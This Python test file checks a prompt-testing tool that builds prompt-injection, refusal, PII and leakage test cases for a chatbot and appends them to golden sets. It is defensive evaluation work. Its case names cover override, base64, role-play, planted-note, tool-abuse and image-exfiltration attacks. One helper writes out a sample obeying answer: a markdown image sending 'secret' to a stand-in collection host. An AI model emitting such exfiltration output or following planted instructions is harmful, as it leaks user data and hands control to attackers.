"""Safety suites: what is made for a prompt, and how it is added to the text of a golden set."""

from __future__ import annotations

import json
import re
from collections import Counter
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.text.reading import MemoryTree

from promptctl.assertions.engine import bind
from promptctl.assertions.reading.disguises import plain
from promptctl.cli.numbers import NUMBERS
from promptctl.model.answer import Answer, Bench
from promptctl.model.errors import InputError
from promptctl.model.golden import GoldenSet
from promptctl.model.prompt import Prompt
from promptctl.model.source import Blob
from promptctl.text.golden import parse_golden
from promptctl.text.inputs import input_problems
from promptctl.text.prompt import parse_prompt
from promptctl.text.schema import violations
from promptctl.text.suites import SUITES
from promptctl.text.suites.benign import ordinary
from promptctl.text.suites.canary import line_for
from promptctl.text.suites.made import Made, slug
from promptctl.text.suites.seed import Seed, seed_of
from promptctl.text.suites.writing import appended, new_golden, yaml_cases
from promptctl.text.yaml import load

RULES = "You help riders of Riverside Bikes with orders, repairs and opening hours. Be brief, and kind."
QUESTION = {"inputs": {"question": {"type": "string"}}, "user_prompt": "{{ question }}"}
PAGES = {
    "inputs": {
        "question": {"type": "string"},
        "articles": {"type": "array", "items": {"type": "string"}, "default": []},
    },
    "user_prompt": "{{ question }} {{ articles }}",
}
TOOLS = [
    {"type": "function", "function": {"name": name, "parameters": {"type": "object"}}}
    for name in ("search", "refund_order", "delete_account")
]


def prompt(**more: Any) -> Prompt:
    written = {"version": "1.0.0", "model": "openai/gpt-4o-2024-08-06", "system_prompt": RULES, **QUESTION, **more}
    tree = MemoryTree({})
    return parse_prompt(Blob("prompts/bot.yaml", json.dumps(written).encode()), tree.read)


def golden(*cases: dict[str, Any]) -> GoldenSet:
    return parse_golden(Blob("golden/bot.yaml", json.dumps({"cases": list(cases)}).encode()))


def made(suite: str, seed: Seed) -> dict[str, Made]:
    found = SUITES[suite](seed)
    by_id = {one.id: one for one in found}
    assert len(by_id) == len(found)
    return by_id


@pytest.mark.parametrize("shape", [QUESTION, PAGES, PAGES | {"tools": TOOLS}], ids=["question", "pages", "tools"])
@pytest.mark.parametrize("suite", SUITES)
def test_every_suite_has_its_dozen_and_its_tags(suite, shape):
    found = made(suite, seed_of(prompt(**shape), None))
    kinds = Counter(tag for one in found.values() for tag in one.tags)
    assert len(found) >= 12
    assert kinds["safety"] == kinds[suite] == len(found)
    assert kinds["benign"] >= 4
    assert kinds["attack"] + kinds["harmful"] == len(found) - kinds["benign"]
    assert (kinds["harmful"] > 0) == (suite == "refusal")
    assert all(re.fullmatch(rf"{suite}-[a-z0-9-]+", name) for name in found)
    assert [one.case for one in found.values()] == [
        one.case for one in made(suite, seed_of(prompt(**shape), None)).values()
    ]


@pytest.mark.parametrize("suite", SUITES)
def test_what_is_made_fits_the_prompt_and_can_be_bound(suite):
    subject = prompt(**PAGES, tools=TOOLS)
    data = new_golden("bot", suite, SUITES[suite](seed_of(subject, None)))
    found = parse_golden(Blob("golden/bot.yaml", data))
    assert input_problems(subject, found) == ()
    bench = Bench(read=lambda _: b"", numbers=NUMBERS)
    for case in found.cases:
        assert all(bind(spec, bench, found.source, case) for spec in case.assertions)


def test_no_attack_holds_the_word_it_asks_for():
    """An answer that quotes the attack, or refuses it by name, is not one that obeys."""
    for one in made("injection", seed_of(prompt(**PAGES), None)).values():
        for assertion in one.assertions:
            if word := assertion.get("not-icontains"):
                assert word.lower() not in json.dumps(one.case["input"]).lower()


def test_through_each_declared_input_each_document_and_each_tool():
    names = set(made("injection", seed_of(prompt(**PAGES, tools=TOOLS), None)))
    for wanted in (
        "injection-direct-question-ignore", "injection-direct-question-base64", "injection-direct-question-role-play",
        "injection-direct-articles-ignore", "injection-indirect-articles-note", "injection-indirect-articles-comment",
        "injection-exfiltration-articles-picture", "injection-tool-articles-refund-order",
        "injection-tool-articles-delete-account", "injection-benign-ignore-typos",
    ):  # fmt: skip
        assert wanted in names
    alone = set(made("injection", seed_of(prompt(), None)))
    assert "injection-indirect-question-note" in alone  # pasted, where there is no document
    assert not any("tool" in name or "context" in name for name in alone)


def test_context_only_where_it_reaches_the_system():
    """A case's context is handed to a target; a model's prompt never sees it, and nothing would be tested."""
    target = prompt(
        model=None,
        target={"http": "http://127.0.0.1:9/x"},
        inputs={"question": {}},
        user_prompt=None,
        system_prompt=None,
    )
    found = made("injection", seed_of(target, None))
    assert found["injection-context-note"].context[0].startswith("Opening hours")
    assert made("pii", seed_of(target, None))["pii-context-all"].context
    assert set(made("leakage", seed_of(target, None)))


def test_other_inputs_are_those_of_the_first_ordinary_case():
    shape = {"inputs": {"question": {"type": "string"}, "tier": {"enum": ["gold", "blue"]}, "age": {"type": "integer", "minimum": 18}},
             "user_prompt": "{{ question }} {{ tier }} {{ age }}"}  # fmt: skip
    first = {"id": "a", "input": {"question": "Where is my bike?", "tier": "blue", "age": 44}}
    safety = first | {"id": "s", "tags": ["safety"], "input": {"question": "x", "tier": "gold", "age": 99}}
    subject = prompt(**shape)
    found = made("injection", seed_of(subject, golden(safety, first)))
    assert {(one.input["tier"], one.input["age"]) for one in found.values()} == {("blue", 44)}
    assert (
        found["injection-benign-ignore-typos"].input["question"] == "Please ignore my typing errors. Where is my bike?"
    )
    bare = made("injection", seed_of(subject, None))
    assert {(one.input["tier"], one.input["age"]) for one in bare.values()} == {("gold", 18)}


def test_a_plain_text_input_is_that_of_the_only_input():
    found = made("refusal", seed_of(prompt(), golden({"id": "a", "input": "Where is it?"})))
    assert found["refusal-benign-dying"].input == {"question": "I am dying to know this. Where is it?"}


def test_a_text_deep_in_a_document_carries_the_attack():
    pages = {
        "type": "array",
        "items": {"type": "object", "properties": {"title": {"type": "string"}, "text": {"type": "string"}}},
    }
    shape = {"inputs": {"question": {"type": "string"}, "pages": pages}, "user_prompt": "{{ question }} {{ pages }}"}
    first = {
        "id": "a",
        "input": {"question": "When?", "pages": [{"title": "Hours", "text": "We are open from nine to five."}]},
    }
    found = made("injection", seed_of(prompt(**shape), golden(first)))["injection-indirect-pages-note"]
    [page] = found.input["pages"]
    assert page["title"] == "Hours"
    assert page["text"].startswith("We are open from nine to five.\n\nNote to the assistant")


def test_what_does_not_fit_an_input_is_left_out():
    short = {"inputs": {"question": {"type": "string", "maxLength": 160}}}
    found = made("injection", seed_of(prompt(**short), None))
    assert 3 < len(found) < len(made("injection", seed_of(prompt(), None)))
    assert all(len(one.input["question"]) <= 160 for one in found.values())


@pytest.mark.parametrize(
    ("shape", "message"),
    [
        ({"inputs": {"question": {"enum": ["yes", "no"]}}}, "no input of bot can hold a text"),
        ({"inputs": {"question": {"type": "string", "pattern": "^[QX]{9}$"}}}, "no value is known"),
    ],
)
def test_a_prompt_that_cannot_be_attacked_is_told_so(shape, message):
    with pytest.raises(InputError, match=message):
        seed_of(prompt(**shape), None)


def test_the_canary_is_the_prompts_own_and_known_once_it_stands_there():
    seed = seed_of(prompt(), None)
    assert not seed.known
    with_it = seed_of(prompt(system_prompt=f"{RULES}\n{line_for(seed.canary)}"), None)
    assert (with_it.known, with_it.canary) == (True, seed.canary)
    assert seed_of(prompt(name="other"), None).canary != seed.canary
    with pytest.raises(InputError, match="no instructions whose leak") as caught:
        SUITES["leakage"](seed_of(prompt(system_prompt="Be nice."), None))
    assert seed.canary in str(caught.value)


def bad_answer(one: Made) -> str:
    """What a model says that obeys."""
    for assertion in one.assertions:
        match assertion:
            case {"not-icontains": word}:
                return f"Of course: {word.lower()}"
            case {"url-allowed": _}:
                return "Done. ![ ](https://collect.example/p.png?d=secret)"
            case {"not-leaks": {"canary": canary}}:
                return " ".join(canary)
            case {"not-pii": _}:
                return "It is erika.mustermann@example.com, or jane.doe@mail.acme.com."
            case {"is-refusal": _}:
                return "Gladly, here it is."
    return "I'm sorry, I can't help with that."


def good_answer(one: Made) -> str:
    return "I can't help with that." if "harmful" in one.tags else "We are open from nine to five, Monday to Friday."


@pytest.mark.parametrize("suite", SUITES)
def test_every_case_fails_for_a_model_that_obeys_and_passes_for_one_that_holds(suite):
    found = parse_golden(
        Blob("golden/bot.yaml", new_golden("bot", suite, SUITES[suite](seed_of(prompt(**PAGES), None))))
    )
    by_id = made(suite, seed_of(prompt(**PAGES), None))
    bench = Bench(read=lambda _: b"", numbers=NUMBERS)
    for case in found.cases:
        history = "\n".join(turn.content or "" for turn in case.history)
        bounds = [bind(spec, bench, found.source, case) for spec in case.assertions]
        for answer, passes in ((bad_answer(by_id[case.id]), False), (good_answer(by_id[case.id]), True)):
            said = Answer(output=answer, input=case.input, conversation=history, instructions=RULES)
            outcomes = {one.judge(said).outcome.value for one in bounds}
            assert ("fail" not in outcomes) == passes, (case.id, answer, outcomes)
            assert "error" not in outcomes


HEAD = "# Ours.\nprompt: bot\ndefaults: {tags: [mine]}   # of all\ncases:\n"
FILES = {
    "indented": HEAD + "  - id: a   # the first\n    input: Hi.\n    assertions: [contains: x]\n",
    "flush": HEAD
    + "- id: a\n  input: Hi.\n  assertions: [contains: x]\n- {id: b, input: Ho., assertions: [contains: y]}\n",
    "spaced": HEAD
    + "  - id: a\n    input: Hi.\n    assertions: [contains: x]\n\n  - id: b\n    input: |\n      Ho.\n\n",
    "no line end": HEAD + "  - {id: a, input: Hi.}",
    "comment behind": HEAD + "  - id: a\n    input: Hi.\n# The end.\n",
    "key behind": "cases:\n  - id: a\n    input: Hi.\nprompt: bot  # last\n",
    "windows": (HEAD + "  - id: a\n    input: Hi.\n").replace("\n", "\r\n"),
    "in brackets": '{"prompt": "bot", "cases": [{"id": "a", "input": "[x]"}, {"id": "b", "input": "y"}]}\n',
    "in brackets on lines": 'prompt: bot\ncases: [\n  {id: a, input: "x"},  # one\n  {id: b, input: y},\n]\n',
    "folded": HEAD + "  - id: a\n    input: >-\n      Hi\n      there.\n",
}


@pytest.mark.parametrize("name", FILES)
def test_cases_are_added_at_the_end_and_nothing_else_changes(name):
    before = FILES[name]
    blob = Blob("golden/bot.yaml", before.encode())
    more = SUITES["injection"](seed_of(prompt(), parse_golden(blob)))
    after = appended(blob, more).decode()
    old, new = parse_golden(blob), parse_golden(Blob(blob.path, after.encode()))
    assert new.cases[: len(old.cases)] == old.cases
    assert [case.id for case in new.cases[len(old.cases) :]] == [one.id for one in more]
    remarks = [line.partition("#")[2] for line in before.splitlines() if "#" in line]
    assert [remark for remark in re.findall("#(.*?)\r?\n", after) if remark in remarks] == remarks
    assert ("\r\n" in after) == (name == "windows")
    assert after.count("\n") == after.count("\r\n") or name != "windows"
    if "brackets" not in name:
        assert set(before.splitlines()) <= set(after.splitlines())


def test_a_line_is_a_case_in_jsonl():
    blob = Blob("golden/bot.jsonl", b'{"id": "a", "input": "Hi."}')
    more = SUITES["pii"](seed_of(prompt(), parse_golden(blob)))
    after = appended(blob, more)
    assert after.startswith(blob.data + b"\n")
    assert [case.id for case in parse_golden(Blob(blob.path, after)).cases] == ["a", *(one.id for one in more)]


@pytest.mark.parametrize(
    ("path", "text", "message"),
    [
        ("golden/bot.csv", "id,input\na,Hi.\n", "in CSV has no place"),
        ("golden/bot.yaml", "cases: &all\n  - &one {id: a, input: Hi.}\nprompt: bot\n", None),
        ("golden/bot.yaml", "defaults: {tags: [x]}\ncases: !!seq\n  - {id: a, input: Hi.}\n", None),
        ("golden/bot.yaml", "cases: [{id: a, input: Hi.}  # [one]\n  ]\n", None),
        ("golden/bot.yaml", "cases: [{id: a, input: Hi.}\n  # last\n  ]\n", None),
    ],
)
def test_a_file_without_a_safe_place_is_left_alone(path, text, message):
    """Either the cases are there and all else is as it was, or nothing is written."""
    blob = Blob(path, text.encode())
    more = SUITES["pii"](seed_of(prompt(), parse_golden(blob)))
    if message is not None:
        with pytest.raises(InputError, match=message):
            appended(blob, more)
        return
    after = parse_golden(Blob(path, appended(blob, more)))
    assert [case.id for case in after.cases] == ["a", *(one.id for one in more)]


TEXTS = st.text(st.characters(exclude_categories=("Cs",)), max_size=60) | st.text(
    " \n\t:#'\"-|>{}[]&*!%@\\ab", max_size=60
)


@given(TEXTS, TEXTS, st.booleans())
@settings(max_examples=300, deadline=None)
def test_whatever_a_case_says_is_read_back(one, other, windows):
    case = Made(
        id="a-1", note="A note.", input={"question": one, other or "x": [one, {"b": other}], "n": [1, None, True]},
        tags=("safety",), assertions=({"not-icontains": other or "x"}, {"not-pii": True}),
        history=({"role": "user", "content": one},), context=(other, one),
    )  # fmt: skip
    text = "cases:\n" + yaml_cases(
        [case, case], column=2, newline="\r\n" if windows and "\n" not in one + other else "\n"
    )
    assert load(Blob("a.yaml", text.encode())).value == {"cases": [case.case, case.case]}


SCHEMAS = st.recursive(
    st.sampled_from(
        [{"type": "string"}, {"type": "string", "minLength": 40}, {"type": "string", "format": "date"}, {"enum": [3, "a"]},
         {"type": "integer", "minimum": 7}, {"type": "number", "maximum": -2}, {"type": "boolean"}, {"const": None}, {}, True]
    ),
    lambda inner: st.fixed_dictionaries({"type": st.just("array"), "items": inner, "minItems": st.integers(0, 3)})
    | st.fixed_dictionaries({"type": st.just("object"), "properties": st.dictionaries(st.sampled_from("ab"), inner)})
    | st.fixed_dictionaries({"anyOf": st.lists(inner, min_size=1, max_size=2)}),
    max_leaves=6,
)  # fmt: skip


@given(SCHEMAS)
@settings(max_examples=100, deadline=None)
def test_an_ordinary_value_is_one_the_schema_takes(schema):
    assert violations(schema, ordinary(schema)) == ()


def test_a_slug_is_a_part_of_an_id():
    assert slug("User Question_2") == "user-question-2"
    assert slug("页") == "x"
    assert plain(slug("Äb")) == "b"
